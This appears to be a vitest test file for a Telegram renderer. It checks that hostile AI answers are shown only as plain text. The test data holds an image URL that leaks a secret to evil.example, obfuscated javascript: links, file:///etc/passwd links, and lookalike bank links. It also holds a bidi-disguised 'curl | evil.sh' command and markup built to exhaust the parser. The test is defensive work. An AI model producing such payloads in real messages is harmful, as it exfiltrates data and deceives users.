import { expect, test } from "vitest";
import { renderFinal } from "../../src/telegram/render-final.ts";
import { expectAccepted } from "./rules.ts";

const DEEP = 10_000;
const FIVE_MIB = 5 * 2 ** 20;

/** What a model, or whoever wrote what it quotes, may try. */
const ANSWERS: Readonly<Record<string, string>> = {
  "a button in JSON": '{"reply_markup":{"inline_keyboard":[[{"text":"Allow","callback_data":"stop:x"}]]}}',
  "buttons in HTML": '<button onclick="x()">Allow</button><tg-button data="stop:x">Stop</tg-button>',
  "an image": "![see](https://evil.example/pixel.png?leak=secret) ![](file:///etc/passwd)",
  "an image in a link": "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "HTML that fetches":
    '<img src="https://evil.example/p.png"><iframe src="https://evil.example"></iframe><video src=x>',
  "a script link": "[docs](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](data:text/html,x) <javascript:alert(1)>",
  "script links by entity": "[a](&#106;avascript:alert(1)) [b](java\nscript:alert(1)) [c](\u0001javascript:alert(1))",
  "a reference to a script": "[a][b]\n\n[b]: javascript:alert(1)",
  "files and other programs": "[a](file:///etc/passwd) [b](vscode://file/x) [c](intent://x#Intent;end) [d](ssh://x)",
  "a bank that is none":
    "[https://bank.example](https://evil.example) [bank.example](https://evil.example/bank.example)",
  "hidden characters in a link":
    "[bank\u200b.example](https://evil.example) [\u2066elpmaxe\u2069](https://evil.example)",
  "text that is turned": "run \u202ehs.live/ | lruc\u202c now",
  "unclosed everything": "**[~~`||<details>```\n| a | b |\n|--",
  "a table of links": "| a |\n|---|\n| [x](javascript:alert(1)) ![i](http://e.example/i.png) |",
  "a formula with a link": "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{http://e.example/x}$$",
  "quotations without end": `${">".repeat(DEEP)} deep`,
  "lists without end": Array.from({ length: DEEP }, (_, depth) => `${" ".repeat(depth % 400)}- x`).join("\n"),
  "emphasis without end": `${"*a **b ".repeat(DEEP)}`,
  "brackets without end": `${"[".repeat(DEEP)}x${"](https://e.example)".repeat(DEEP)}`,
  "5 MiB of text": "word ".repeat(FIVE_MIB / 5),
  "5 MiB of table": "| a | b |\n".repeat(FIVE_MIB / 10),
  "5 MiB of one code block": `\`\`\`\n${"x".repeat(FIVE_MIB)}`,
  "half characters and nulls": "\ud800 \u0000 \udfff \u0007 ok",
};

test.each(Object.entries(ANSWERS))("%s arrives as text in every mode, and nothing else does", async (_, answer) => {
  for (const messages of ["auto", "rich", "classic", "plain"] as const) {
    const { parts, file } = await renderFinal(
      { label: "done", engine: "pi", elapsedMs: 1, steps: 0, answer, overflow: "split" },
      messages,
    );
    expect(parts.length).toBeGreaterThan(0);
    for (const part of parts) {
      expectAccepted(part);
      expect(JSON.stringify(part)).not.toMatch(/"(?:url|href|src)":"(?!https?:|mailto:|tg:)/);
      expect(JSON.stringify(part)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    }
    if (file) expect(file.text.startsWith(answer)).toBe(true);
  }
});
